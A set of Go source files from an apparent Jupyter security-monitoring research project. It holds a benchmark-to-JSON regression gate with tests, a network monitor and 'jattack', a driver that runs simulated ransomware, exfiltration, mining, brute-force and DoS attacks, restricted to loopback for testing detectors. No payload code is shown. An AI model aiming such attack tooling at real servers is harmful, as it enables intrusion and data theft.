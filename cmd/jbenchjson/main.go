// Command jbenchjson converts `go test -bench` text output into a
// machine-readable JSON document, so CI can publish benchmark numbers
// (ns/op plus any custom metrics like events/sec) as a build artifact
// instead of burying them in a log.
//
//	go test -bench . -benchtime=1x . | jbenchjson --out BENCH.json
//
// The parser keeps every value-unit pair a benchmark line reports:
// ns/op, B/op, allocs/op, and b.ReportMetric extras all land in the
// same metrics map. Context lines (goos, goarch, pkg, cpu) become
// document metadata. Exits non-zero if no benchmark lines were found,
// so a silently-skipped bench step fails loudly.
//
// Compare mode diffs two artifacts and gates on slowdowns:
//
//	jbenchjson --in BENCH_NEW.json --compare BENCH_OLD.json \
//	    --max-regress 20 --allow StoreAppend,FleetScan
//
// Every benchmark present in both documents is printed with old/new
// ns/op, the percent delta, and any custom metrics the two runs
// share. A benchmark whose ns/op, allocs/op, or B/op grew more than
// --max-regress percent is a regression; if any regression's name
// matches no --allow substring the exit status is 2, which fails the
// CI gate. The allocation metrics gate only when both artifacts carry
// them — an old artifact produced without -benchmem never fails the
// build retroactively. Benchmarks only present on one side are
// reported but never gate (they are additions or removals, not
// slowdowns). Without --in, compare mode parses bench text from stdin
// first, so one invocation can both publish and gate.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"
)

// Benchmark is one parsed result line.
type Benchmark struct {
	Name       string             `json:"name"`
	Iterations int64              `json:"iterations"`
	NsPerOp    float64            `json:"ns_per_op"`
	Metrics    map[string]float64 `json:"metrics,omitempty"`
}

// Document is the emitted artifact.
type Document struct {
	Meta       map[string]string `json:"meta,omitempty"`
	Benchmarks []Benchmark       `json:"benchmarks"`
}

func main() {
	out := flag.String("out", "", "write JSON here instead of stdout")
	in := flag.String("in", "", "read the new document from this JSON artifact instead of parsing bench text from stdin")
	compareWith := flag.String("compare", "", "diff against this older JSON artifact and gate on regressions")
	maxRegress := flag.Float64("max-regress", 20, "percent ns/op growth tolerated before a benchmark counts as regressed")
	allow := flag.String("allow", "", "comma-separated benchmark-name substrings exempt from the regression gate")
	flag.Parse()

	var doc Document
	if *in != "" {
		var err error
		doc, err = readDoc(*in)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jbenchjson: %v\n", err)
			os.Exit(1)
		}
	} else {
		var err error
		doc, err = parse(bufio.NewScanner(os.Stdin))
		if err != nil {
			fmt.Fprintf(os.Stderr, "jbenchjson: %v\n", err)
			os.Exit(1)
		}
	}
	if len(doc.Benchmarks) == 0 {
		fmt.Fprintln(os.Stderr, "jbenchjson: no benchmark lines in input")
		os.Exit(1)
	}

	if *out != "" || *compareWith == "" {
		data, err := json.MarshalIndent(doc, "", "  ")
		if err != nil {
			fmt.Fprintf(os.Stderr, "jbenchjson: %v\n", err)
			os.Exit(1)
		}
		data = append(data, '\n')
		if *out == "" {
			os.Stdout.Write(data)
		} else {
			if err := os.WriteFile(*out, data, 0o644); err != nil {
				fmt.Fprintf(os.Stderr, "jbenchjson: %v\n", err)
				os.Exit(1)
			}
			fmt.Printf("jbenchjson: wrote %d benchmarks to %s\n", len(doc.Benchmarks), *out)
		}
	}

	if *compareWith == "" {
		return
	}
	old, err := readDoc(*compareWith)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jbenchjson: %v\n", err)
		os.Exit(1)
	}
	report, regressed := compare(old, doc, *maxRegress, splitAllow(*allow))
	os.Stdout.WriteString(report)
	if len(regressed) > 0 {
		fmt.Fprintf(os.Stderr, "jbenchjson: %d benchmark(s) regressed more than %.0f%%: %s\n",
			len(regressed), *maxRegress, strings.Join(regressed, ", "))
		os.Exit(2)
	}
}

func readDoc(path string) (Document, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return Document{}, err
	}
	var doc Document
	if err := json.Unmarshal(data, &doc); err != nil {
		return Document{}, fmt.Errorf("%s: %v", path, err)
	}
	return doc, nil
}

func splitAllow(s string) []string {
	var out []string
	for _, part := range strings.Split(s, ",") {
		if part = strings.TrimSpace(part); part != "" {
			out = append(out, part)
		}
	}
	return out
}

// gatedUnits are the metrics where growth is unambiguously bad and so
// participates in the regression gate. Other custom metrics have no
// universal better-direction (events/op up is good, disk-B/event down
// is good), so they are reported for the reader but never fail the
// build.
var gatedUnits = []string{"ns/op", "allocs/op", "B/op"}

func isGated(unit string) bool {
	for _, g := range gatedUnits {
		if unit == g {
			return true
		}
	}
	return false
}

// compare diffs two documents benchmark-by-benchmark. It returns a
// human-readable report and the names of benchmarks where a gated
// metric (ns/op, allocs/op, B/op) grew more than maxRegress percent
// and the benchmark matches no allow substring. A gated metric only
// gates when both runs report it, so artifacts from before -benchmem
// was wired through compare cleanly against artifacts from after.
func compare(old, cur Document, maxRegress float64, allow []string) (string, []string) {
	oldBy := make(map[string]Benchmark, len(old.Benchmarks))
	for _, b := range old.Benchmarks {
		oldBy[b.Name] = b
	}
	allowed := func(name string) bool {
		for _, a := range allow {
			if strings.Contains(name, a) {
				return true
			}
		}
		return false
	}

	var sb strings.Builder
	var regressed []string
	seen := make(map[string]bool, len(cur.Benchmarks))
	for _, nb := range cur.Benchmarks {
		seen[nb.Name] = true
		ob, ok := oldBy[nb.Name]
		if !ok {
			fmt.Fprintf(&sb, "new       %-60s %14.0f ns/op\n", nb.Name, nb.NsPerOp)
			continue
		}
		judge := func(oldVal, newVal float64) (string, float64) {
			delta := 0.0
			if oldVal > 0 {
				delta = (newVal - oldVal) / oldVal * 100
			}
			switch {
			case delta > maxRegress && allowed(nb.Name):
				return "allowed", delta
			case delta > maxRegress:
				return "REGRESSED", delta
			case delta < -maxRegress:
				return "improved", delta
			}
			return "ok", delta
		}
		verdict, delta := judge(ob.NsPerOp, nb.NsPerOp)
		if verdict == "REGRESSED" {
			regressed = append(regressed, nb.Name)
		}
		fmt.Fprintf(&sb, "%-9s %-60s %14.0f -> %14.0f ns/op  %+7.1f%%\n",
			verdict, nb.Name, ob.NsPerOp, nb.NsPerOp, delta)
		for _, unit := range sharedMetricUnits(ob, nb) {
			if !isGated(unit) {
				fmt.Fprintf(&sb, "          %-60s %14.2f -> %14.2f %s\n",
					"", ob.Metrics[unit], nb.Metrics[unit], unit)
				continue
			}
			mv, md := judge(ob.Metrics[unit], nb.Metrics[unit])
			if mv == "REGRESSED" {
				regressed = append(regressed, nb.Name+" ("+unit+")")
			}
			fmt.Fprintf(&sb, "%-9s %-60s %14.2f -> %14.2f %s  %+7.1f%%\n",
				mv, "", ob.Metrics[unit], nb.Metrics[unit], unit, md)
		}
	}
	for _, ob := range old.Benchmarks {
		if !seen[ob.Name] {
			fmt.Fprintf(&sb, "removed   %-60s %14.0f ns/op\n", ob.Name, ob.NsPerOp)
		}
	}
	return sb.String(), regressed
}

// sharedMetricUnits lists custom metrics both runs report, in stable
// order, excluding ns/op (already on the headline row).
func sharedMetricUnits(a, b Benchmark) []string {
	var units []string
	for unit := range a.Metrics {
		if unit == "ns/op" {
			continue
		}
		if _, ok := b.Metrics[unit]; ok {
			units = append(units, unit)
		}
	}
	sort.Strings(units)
	return units
}

func parse(sc *bufio.Scanner) (Document, error) {
	doc := Document{Meta: map[string]string{}}
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		switch {
		case line == "", line == "PASS", strings.HasPrefix(line, "ok "), strings.HasPrefix(line, "--- "):
			continue
		}
		if key, val, ok := strings.Cut(line, ": "); ok && !strings.HasPrefix(line, "Benchmark") {
			switch key {
			case "goos", "goarch", "pkg", "cpu":
				doc.Meta[key] = val
			}
			continue
		}
		if !strings.HasPrefix(line, "Benchmark") {
			continue
		}
		b, err := parseBenchLine(line)
		if err != nil {
			return doc, err
		}
		doc.Benchmarks = append(doc.Benchmarks, b)
	}
	return doc, sc.Err()
}

// parseBenchLine decodes "BenchmarkName-8  100  123 ns/op  45 extra/unit".
func parseBenchLine(line string) (Benchmark, error) {
	fields := strings.Fields(line)
	if len(fields) < 4 {
		return Benchmark{}, fmt.Errorf("short benchmark line %q", line)
	}
	iters, err := strconv.ParseInt(fields[1], 10, 64)
	if err != nil {
		return Benchmark{}, fmt.Errorf("bad iteration count in %q: %v", line, err)
	}
	b := Benchmark{
		// Strip the -GOMAXPROCS suffix so names are stable across
		// runner shapes.
		Name:       trimProcsSuffix(fields[0]),
		Iterations: iters,
		Metrics:    map[string]float64{},
	}
	for i := 2; i+1 < len(fields); i += 2 {
		val, err := strconv.ParseFloat(fields[i], 64)
		if err != nil {
			return Benchmark{}, fmt.Errorf("bad metric value in %q: %v", line, err)
		}
		unit := fields[i+1]
		b.Metrics[unit] = val
		if unit == "ns/op" {
			b.NsPerOp = val
		}
	}
	if _, ok := b.Metrics["ns/op"]; !ok {
		return Benchmark{}, fmt.Errorf("no ns/op in %q", line)
	}
	return b, nil
}

func trimProcsSuffix(name string) string {
	i := strings.LastIndex(name, "-")
	if i < 0 {
		return name
	}
	if _, err := strconv.Atoi(name[i+1:]); err != nil {
		return name
	}
	return name[:i]
}
