// Command jbenchjson converts `go test -bench` text output into a
// machine-readable JSON document, so CI can publish benchmark numbers
// (ns/op plus any custom metrics like events/sec) as a build artifact
// instead of burying them in a log.
//
//	go test -bench . -benchtime=1x . | jbenchjson --out BENCH.json
//
// The parser keeps every value-unit pair a benchmark line reports:
// ns/op, B/op, allocs/op, and b.ReportMetric extras all land in the
// same metrics map. Context lines (goos, goarch, pkg, cpu) become
// document metadata. Exits non-zero if no benchmark lines were found,
// so a silently-skipped bench step fails loudly.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
)

// Benchmark is one parsed result line.
type Benchmark struct {
	Name       string             `json:"name"`
	Iterations int64              `json:"iterations"`
	NsPerOp    float64            `json:"ns_per_op"`
	Metrics    map[string]float64 `json:"metrics,omitempty"`
}

// Document is the emitted artifact.
type Document struct {
	Meta       map[string]string `json:"meta,omitempty"`
	Benchmarks []Benchmark       `json:"benchmarks"`
}

func main() {
	out := flag.String("out", "", "write JSON here instead of stdout")
	flag.Parse()

	doc, err := parse(bufio.NewScanner(os.Stdin))
	if err != nil {
		fmt.Fprintf(os.Stderr, "jbenchjson: %v\n", err)
		os.Exit(1)
	}
	if len(doc.Benchmarks) == 0 {
		fmt.Fprintln(os.Stderr, "jbenchjson: no benchmark lines in input")
		os.Exit(1)
	}
	data, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		fmt.Fprintf(os.Stderr, "jbenchjson: %v\n", err)
		os.Exit(1)
	}
	data = append(data, '\n')
	if *out == "" {
		os.Stdout.Write(data)
		return
	}
	if err := os.WriteFile(*out, data, 0o644); err != nil {
		fmt.Fprintf(os.Stderr, "jbenchjson: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("jbenchjson: wrote %d benchmarks to %s\n", len(doc.Benchmarks), *out)
}

func parse(sc *bufio.Scanner) (Document, error) {
	doc := Document{Meta: map[string]string{}}
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		switch {
		case line == "", line == "PASS", strings.HasPrefix(line, "ok "), strings.HasPrefix(line, "--- "):
			continue
		}
		if key, val, ok := strings.Cut(line, ": "); ok && !strings.HasPrefix(line, "Benchmark") {
			switch key {
			case "goos", "goarch", "pkg", "cpu":
				doc.Meta[key] = val
			}
			continue
		}
		if !strings.HasPrefix(line, "Benchmark") {
			continue
		}
		b, err := parseBenchLine(line)
		if err != nil {
			return doc, err
		}
		doc.Benchmarks = append(doc.Benchmarks, b)
	}
	return doc, sc.Err()
}

// parseBenchLine decodes "BenchmarkName-8  100  123 ns/op  45 extra/unit".
func parseBenchLine(line string) (Benchmark, error) {
	fields := strings.Fields(line)
	if len(fields) < 4 {
		return Benchmark{}, fmt.Errorf("short benchmark line %q", line)
	}
	iters, err := strconv.ParseInt(fields[1], 10, 64)
	if err != nil {
		return Benchmark{}, fmt.Errorf("bad iteration count in %q: %v", line, err)
	}
	b := Benchmark{
		// Strip the -GOMAXPROCS suffix so names are stable across
		// runner shapes.
		Name:       trimProcsSuffix(fields[0]),
		Iterations: iters,
		Metrics:    map[string]float64{},
	}
	for i := 2; i+1 < len(fields); i += 2 {
		val, err := strconv.ParseFloat(fields[i], 64)
		if err != nil {
			return Benchmark{}, fmt.Errorf("bad metric value in %q: %v", line, err)
		}
		unit := fields[i+1]
		b.Metrics[unit] = val
		if unit == "ns/op" {
			b.NsPerOp = val
		}
	}
	if _, ok := b.Metrics["ns/op"]; !ok {
		return Benchmark{}, fmt.Errorf("no ns/op in %q", line)
	}
	return b, nil
}

func trimProcsSuffix(name string) string {
	i := strings.LastIndex(name, "-")
	if i < 0 {
		return name
	}
	if _, err := strconv.Atoi(name[i+1:]); err != nil {
		return name
	}
	return name[:i]
}
