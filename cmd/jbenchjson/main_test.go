package main

import (
	"bufio"
	"strings"
	"testing"
)

func mkDoc(benches ...Benchmark) Document {
	return Document{Benchmarks: benches}
}

func bench(name string, ns float64, metrics map[string]float64) Benchmark {
	if metrics == nil {
		metrics = map[string]float64{}
	}
	metrics["ns/op"] = ns
	return Benchmark{Name: name, Iterations: 1, NsPerOp: ns, Metrics: metrics}
}

func TestParseBenchText(t *testing.T) {
	in := `goos: linux
goarch: amd64
pkg: repro
cpu: Intel(R) Xeon(R)
BenchmarkStoreReplay/store-full/json-v1         	      10	 398402086 ns/op	     97322 events/op
BenchmarkStoreReplay/store-full/binary-v2-8     	      10	 138055277 ns/op	     97322 events/op
PASS
ok  	repro	19.013s
`
	doc, err := parse(bufio.NewScanner(strings.NewReader(in)))
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Benchmarks) != 2 {
		t.Fatalf("parsed %d benchmarks, want 2", len(doc.Benchmarks))
	}
	if doc.Meta["goos"] != "linux" || doc.Meta["pkg"] != "repro" {
		t.Fatalf("meta = %v", doc.Meta)
	}
	// -GOMAXPROCS suffix must be stripped so artifact names stay
	// stable across runner shapes.
	if got := doc.Benchmarks[1].Name; got != "BenchmarkStoreReplay/store-full/binary-v2" {
		t.Fatalf("name = %q", got)
	}
	if doc.Benchmarks[0].Metrics["events/op"] != 97322 {
		t.Fatalf("custom metric lost: %v", doc.Benchmarks[0].Metrics)
	}
}

func TestCompareFlagsRegressions(t *testing.T) {
	old := mkDoc(
		bench("BenchmarkA", 100, nil),
		bench("BenchmarkB", 100, nil),
		bench("BenchmarkC", 100, nil),
	)
	cur := mkDoc(
		bench("BenchmarkA", 115, nil), // +15%: inside the budget
		bench("BenchmarkB", 150, nil), // +50%: regression
		bench("BenchmarkC", 60, nil),  // -40%: improvement
	)
	report, regressed := compare(old, cur, 20, nil)
	if len(regressed) != 1 || regressed[0] != "BenchmarkB" {
		t.Fatalf("regressed = %v, want [BenchmarkB]", regressed)
	}
	for _, want := range []string{"ok        BenchmarkA", "REGRESSED BenchmarkB", "improved  BenchmarkC"} {
		if !strings.Contains(report, want) {
			t.Errorf("report missing %q:\n%s", want, report)
		}
	}
}

func TestCompareAllowlist(t *testing.T) {
	old := mkDoc(bench("BenchmarkStoreAppend/json-v1", 100, nil))
	cur := mkDoc(bench("BenchmarkStoreAppend/json-v1", 300, nil))
	if _, regressed := compare(old, cur, 20, nil); len(regressed) != 1 {
		t.Fatalf("without allowlist: regressed = %v, want 1", regressed)
	}
	report, regressed := compare(old, cur, 20, []string{"StoreAppend"})
	if len(regressed) != 0 {
		t.Fatalf("with allowlist: regressed = %v, want none", regressed)
	}
	if !strings.Contains(report, "allowed   BenchmarkStoreAppend/json-v1") {
		t.Fatalf("report missing allowed verdict:\n%s", report)
	}
}

func TestCompareAddedAndRemoved(t *testing.T) {
	old := mkDoc(bench("BenchmarkGone", 100, nil))
	cur := mkDoc(bench("BenchmarkFresh", 9999, nil))
	report, regressed := compare(old, cur, 20, nil)
	if len(regressed) != 0 {
		t.Fatalf("additions/removals must not gate: %v", regressed)
	}
	if !strings.Contains(report, "new       BenchmarkFresh") ||
		!strings.Contains(report, "removed   BenchmarkGone") {
		t.Fatalf("report:\n%s", report)
	}
}

func TestCompareShowsSharedCustomMetrics(t *testing.T) {
	old := mkDoc(bench("BenchmarkStoreAppend", 100,
		map[string]float64{"disk-B/event": 181.1, "old-only/unit": 1}))
	cur := mkDoc(bench("BenchmarkStoreAppend", 105,
		map[string]float64{"disk-B/event": 38.5, "new-only/unit": 2}))
	report, _ := compare(old, cur, 20, nil)
	if !strings.Contains(report, "disk-B/event") {
		t.Fatalf("shared custom metric missing:\n%s", report)
	}
	if strings.Contains(report, "old-only/unit") || strings.Contains(report, "new-only/unit") {
		t.Fatalf("one-sided metrics must be omitted:\n%s", report)
	}
}

func TestCompareGatesAllocMetrics(t *testing.T) {
	old := mkDoc(
		bench("BenchmarkAllocs", 100, map[string]float64{"allocs/op": 1000, "B/op": 4096}),
		bench("BenchmarkBytes", 100, map[string]float64{"allocs/op": 10, "B/op": 1000}),
		bench("BenchmarkSteady", 100, map[string]float64{"allocs/op": 10, "B/op": 1000}),
	)
	cur := mkDoc(
		bench("BenchmarkAllocs", 101, map[string]float64{"allocs/op": 1500, "B/op": 4100}), // allocs +50%
		bench("BenchmarkBytes", 99, map[string]float64{"allocs/op": 11, "B/op": 1900}),     // B/op +90%
		bench("BenchmarkSteady", 102, map[string]float64{"allocs/op": 11, "B/op": 1050}),   // inside budget
	)
	report, regressed := compare(old, cur, 20, nil)
	want := []string{"BenchmarkAllocs (allocs/op)", "BenchmarkBytes (B/op)"}
	if len(regressed) != 2 || regressed[0] != want[0] || regressed[1] != want[1] {
		t.Fatalf("regressed = %v, want %v", regressed, want)
	}
	// The headline ns/op rows are all fine; the metric rows carry the
	// verdicts.
	for _, s := range []string{"ok        BenchmarkAllocs", "ok        BenchmarkBytes", "ok        BenchmarkSteady"} {
		if !strings.Contains(report, s) {
			t.Errorf("report missing %q:\n%s", s, report)
		}
	}
	if !strings.Contains(report, "REGRESSED") {
		t.Fatalf("no REGRESSED metric row:\n%s", report)
	}
}

func TestCompareAllocGateHonorsAllowlist(t *testing.T) {
	old := mkDoc(bench("BenchmarkStoreAppend", 100, map[string]float64{"allocs/op": 100}))
	cur := mkDoc(bench("BenchmarkStoreAppend", 100, map[string]float64{"allocs/op": 500}))
	if _, regressed := compare(old, cur, 20, nil); len(regressed) != 1 {
		t.Fatalf("without allowlist: regressed = %v, want 1", regressed)
	}
	if _, regressed := compare(old, cur, 20, []string{"StoreAppend"}); len(regressed) != 0 {
		t.Fatalf("with allowlist: regressed = %v, want none", regressed)
	}
}

func TestCompareAllocMetricsAbsentOnOneSideDoNotGate(t *testing.T) {
	// The previous artifact predates -benchmem: no allocs/op or B/op.
	// The first run with allocation metrics must not regress against
	// it, and an artifact that loses the metrics must not either.
	old := mkDoc(bench("BenchmarkReplay", 100, nil))
	cur := mkDoc(bench("BenchmarkReplay", 105, map[string]float64{"allocs/op": 1e9, "B/op": 1e12}))
	if _, regressed := compare(old, cur, 20, nil); len(regressed) != 0 {
		t.Fatalf("one-sided alloc metrics gated: %v", regressed)
	}
	if _, regressed := compare(cur, old, 20, nil); len(regressed) != 0 {
		t.Fatalf("dropped alloc metrics gated: %v", regressed)
	}
}

func TestCompareZeroAllocBaselineDoesNotDivide(t *testing.T) {
	old := mkDoc(bench("BenchmarkZero", 100, map[string]float64{"allocs/op": 0}))
	cur := mkDoc(bench("BenchmarkZero", 100, map[string]float64{"allocs/op": 3}))
	if _, regressed := compare(old, cur, 20, nil); len(regressed) != 0 {
		t.Fatalf("zero alloc baseline must not regress: %v", regressed)
	}
}

func TestParseBenchmemLine(t *testing.T) {
	in := "BenchmarkStoreReplay/store-full/binary-v2-8   10   138055277 ns/op   34000000 B/op   1888 allocs/op\n"
	doc, err := parse(bufio.NewScanner(strings.NewReader(in)))
	if err != nil {
		t.Fatal(err)
	}
	m := doc.Benchmarks[0].Metrics
	if m["B/op"] != 34000000 || m["allocs/op"] != 1888 {
		t.Fatalf("benchmem metrics = %v", m)
	}
}

func TestCompareZeroOldNsDoesNotDivide(t *testing.T) {
	old := mkDoc(bench("BenchmarkWeird", 0, nil))
	cur := mkDoc(bench("BenchmarkWeird", 50, nil))
	if _, regressed := compare(old, cur, 20, nil); len(regressed) != 0 {
		t.Fatalf("zero baseline must not regress: %v", regressed)
	}
}
