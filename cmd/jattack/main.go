// Command jattack drives one taxonomy attack against a (simulated)
// Jupyter server — for exercising monitors, honeypots, and demos.
// It refuses to run against anything but loopback addresses.
//
//	jattack --target 127.0.0.1:8888 --attack ransomware
//	jattack --target 127.0.0.1:8888 --attack bruteforce --user alice
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"repro/internal/attacks"
	"repro/internal/client"
)

func main() {
	target := flag.String("target", "", "server host:port (loopback only)")
	attack := flag.String("attack", "", "ransomware | exfil | miner | probe | bruteforce | recon | lowslow")
	token := flag.String("token", "", "bearer token if the server requires auth")
	user := flag.String("user", "mallory", "acting username")
	flag.Parse()

	if *target == "" || *attack == "" {
		fmt.Fprintln(os.Stderr, "jattack: need --target ADDR and --attack NAME")
		os.Exit(2)
	}
	if !strings.HasPrefix(*target, "127.0.0.1:") && !strings.HasPrefix(*target, "localhost:") {
		fmt.Fprintln(os.Stderr, "jattack: refusing non-loopback target (this is a simulator tool)")
		os.Exit(2)
	}

	c := client.New(*target, *token)
	var (
		res *attacks.Result
		err error
	)
	switch *attack {
	case "ransomware":
		res, err = attacks.Ransomware(c, attacks.RansomwareOptions{Username: *user})
	case "exfil":
		res, err = attacks.Exfiltration(c, attacks.ExfilOptions{Username: *user, Encode: true})
	case "miner":
		res, err = attacks.Cryptominer(c, attacks.MinerOptions{Username: *user, Blatant: true})
	case "probe":
		res, err = attacks.MisconfigProbe(c, attacks.ProbeOptions{SourceLabel: *user})
	case "bruteforce":
		res, err = attacks.BruteForce(c, attacks.BruteForceOptions{Username: *user})
	case "recon":
		res, err = attacks.TerminalRecon(c, *user)
	case "lowslow":
		res, err = attacks.LowSlowDoS(c, attacks.LowSlowOptions{
			Requests: 30, Interval: 500 * time.Millisecond,
		})
	default:
		fmt.Fprintf(os.Stderr, "jattack: unknown attack %q\n", *attack)
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "jattack: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("attack:    %s\nclass:     %s\nactor:     %s\nactions:   %d\nsucceeded: %v\nduration:  %v\n",
		*attack, res.Class, res.Actor, res.Actions, res.Succeeded,
		res.Finished.Sub(res.Started).Round(time.Millisecond))
	for _, n := range res.Notes {
		fmt.Printf("note:      %s\n", n)
	}
	if !res.Succeeded {
		os.Exit(1) // the defenses held
	}
}
