// Command jsentinel is the Jupyter network monitoring tool the paper
// proposes: it either (a) replays a JSONL trace file through the
// detection engine and prints the incident report, or (b) runs a
// reverse-proxy-style tapped server and streams alerts live.
//
// Replay accepts any trace-event stream, including the unified
// finding stream a fleet census emits (jscan --fleet N --events
// findings.jsonl): scan_finding events hit the same builtin SC-*
// rules there, so a recorded sweep re-raises its alerts offline.
//
//	jsentinel --replay events.jsonl
//	jsentinel --replay census-findings.jsonl
//	jsentinel --listen 127.0.0.1:9999 --token <tok>   (tapped live server)
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"sort"
	"strings"
	"time"

	"repro/internal/core"
	"repro/internal/netmon"
	"repro/internal/rules"
	"repro/internal/server"
	"repro/internal/trace"
	"repro/internal/workload"
)

func main() {
	replay := flag.String("replay", "", "JSONL trace file to analyze offline")
	listen := flag.String("listen", "", "boot a tapped hardened server on this address and monitor it live")
	token := flag.String("token", "sentinel-demo-token", "token for the live server")
	showAlerts := flag.Bool("alerts", true, "print individual alerts")
	zeekOut := flag.String("zeek", "", "write Zeek-format conn/http/websocket/jupyter logs here on exit (live mode)")
	workers := flag.Int("workers", 1, "detection workers: replay shards the trace by actor; live mode drains the tap through an async stage")
	batch := flag.Int("batch", 256, "events per engine batch during replay")
	queue := flag.Int("queue", 4096, "live-mode stage queue depth")
	flag.Parse()

	switch {
	case *replay != "":
		replayFile(*replay, *showAlerts, *workers, *batch)
	case *listen != "":
		live(*listen, *token, *showAlerts, *zeekOut, *workers, *queue)
	default:
		fmt.Fprintln(os.Stderr, "jsentinel: need --replay FILE or --listen ADDR")
		os.Exit(2)
	}
}

func newEngine(showAlerts bool) *core.Engine {
	opts := core.DefaultOptions()
	if showAlerts {
		opts.OnAlert = func(a rules.Alert) {
			fmt.Printf("ALERT [%-8s] %-28s %-24s %s\n", a.Severity, a.Class, a.RuleID, a.Description)
		}
	}
	eng, err := core.NewEngine(opts)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	return eng
}

func replayFile(path string, showAlerts bool, workers, batch int) {
	f, err := os.Open(path)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	defer f.Close()
	events, err := trace.ReadJSONL(f)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: parse: %v\n", err)
		os.Exit(1)
	}
	eng := newEngine(showAlerts)
	start := time.Now()
	// Sharding by actor keeps every correlation group (threshold
	// windows, sequences) on one worker in time order, so the parallel
	// replay fires the same alerts as a serial one.
	workload.Replay(events, workers, batch, func(b []trace.Event) {
		eng.ProcessBatch(b)
	})
	elapsed := time.Since(start)
	fmt.Printf("\nreplayed %d events in %v (%.0f events/sec, workers=%d batch=%d)\n",
		len(events), elapsed.Round(time.Millisecond),
		float64(len(events))/elapsed.Seconds(), workers, batch)
	fmt.Printf("event mix: %s\n\n", renderKindMix(events))
	fmt.Print(eng.Report(time.Now()).Render())
	for _, inc := range eng.Incidents() {
		fmt.Println(inc.Summary())
	}
}

// renderKindMix summarizes the replayed stream's composition, sorted
// by kind for stable output.
func renderKindMix(events []trace.Event) string {
	counts := trace.CountByKind(events)
	kinds := make([]string, 0, len(counts))
	for k := range counts {
		kinds = append(kinds, string(k))
	}
	sort.Strings(kinds)
	parts := make([]string, 0, len(kinds))
	for _, k := range kinds {
		parts = append(parts, fmt.Sprintf("%s=%d", k, counts[trace.Kind(k)]))
	}
	return strings.Join(parts, " ")
}

func live(addr, token string, showAlerts bool, zeekOut string, workers, queue int) {
	cfg := server.HardenedConfig(token)
	srv := server.NewServer(cfg)
	mon := netmon.NewMonitor(netmon.FullVisibility(), nil)
	eng := newEngine(showAlerts)
	// Decouple request handling from detection: events queue into
	// bounded stages drained off the serving path. One single-worker
	// stage per detection worker, routed by actor key — a shared
	// multi-worker pool would reorder one actor's events and break
	// sequence/threshold correlation (fail,fail,success arriving as
	// fail,success,fail).
	if workers <= 0 {
		workers = 1
	}
	stages := make([]*trace.Stage, workers)
	for i := range stages {
		stages[i] = trace.NewStage(eng, 1, queue, trace.Block)
	}
	router := trace.SinkFunc(func(e trace.Event) {
		stages[workload.ShardIndex(workload.ActorKey(e), len(stages))].Emit(e)
	})
	mon.Bus().Subscribe(router) // wire-derived events
	srv.Bus().Subscribe(router) // host-derived events

	ln, err := net.Listen("tcp", addr)
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	bound, err := srv.Serve(mon.WrapListener(ln))
	if err != nil {
		fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("jsentinel: monitored server on http://%s (token %s)\n", bound, token)
	fmt.Println("jsentinel: streaming alerts; Ctrl-C for final report")

	ch := make(chan os.Signal, 1)
	signal.Notify(ch, os.Interrupt)
	<-ch
	_ = srv.Close()
	for _, st := range stages {
		st.Close() // drain queued events before the final report
	}

	vis := mon.Visibility()
	fmt.Printf("\nwire visibility: conns=%d bytes=%d http=%d ws_frames=%d jupyter_msgs=%d\n",
		vis.Conns, vis.BytesTotal, vis.HTTPRequests, vis.WSFrames, vis.JupyterMessages)
	fmt.Print(eng.Report(time.Now()).Render())

	if zeekOut != "" {
		f, err := os.Create(zeekOut)
		if err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: %v\n", err)
			return
		}
		defer f.Close()
		if err := mon.WriteAllLogs(f); err != nil {
			fmt.Fprintf(os.Stderr, "jsentinel: zeek export: %v\n", err)
			return
		}
		fmt.Printf("jsentinel: Zeek logs written to %s\n", zeekOut)
	}
}
