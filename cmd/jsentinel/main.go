// Command jsentinel is the Jupyter network monitoring tool the paper
// proposes: it either (a) replays a recorded trace through the
// detection engine and prints the incident report, or (b) runs a
// reverse-proxy-style tapped server and streams alerts live. Both
// modes run the sharded core engine — signature rules, per-shard
// anomaly detectors, actor-keyed incident correlation, OSCRP risk
// scoring — and close with a deterministic top-K incidents-by-risk
// table (--topk): the incident set and its rendering are identical
// for any --workers value.
//
// Replay accepts either a legacy JSONL trace file (streamed one event
// at a time, never fully buffered) or an event-store directory
// (internal/evstore) as written by jscan --events or jupyterd --log —
// either segment codec, JSON v1 or binary v2, in any mix; the store
// dispatches per segment, so no flag is needed to read old data.
// Store replay is filtered and segment-parallel: --since/--until/
// --kinds/--actor prune whole segments via the sidecar indexes, and
// on binary-v2 segments the kind/actor facets additionally push down
// into the frame headers, discarding non-matching frames before the
// payload is ever decoded. The survivors feed the actor-sharded
// detection workers directly from per-segment readers. Any stream
// works, including the unified finding stream a fleet census emits:
// scan_finding events hit the same builtin SC-* rules, so a recorded
// sweep re-raises its alerts offline. A store recorded by the
// jingestd multi-tenant ingest front-end replays to a byte-identical
// top-incidents table as its live run — tenant-namespaced actors
// shard the same way offline.
//
// Live mode can record the tapped stream with --log (a store
// directory, or legacy JSONL when the path ends in .jsonl); --codec
// selects the segment format for new store segments (binary by
// default, --codec=json as the escape hatch). Live mode drains
// cleanly on SIGINT or SIGTERM: queued stage events are processed
// before the final report renders.
//
//	jsentinel --replay events.jsonl
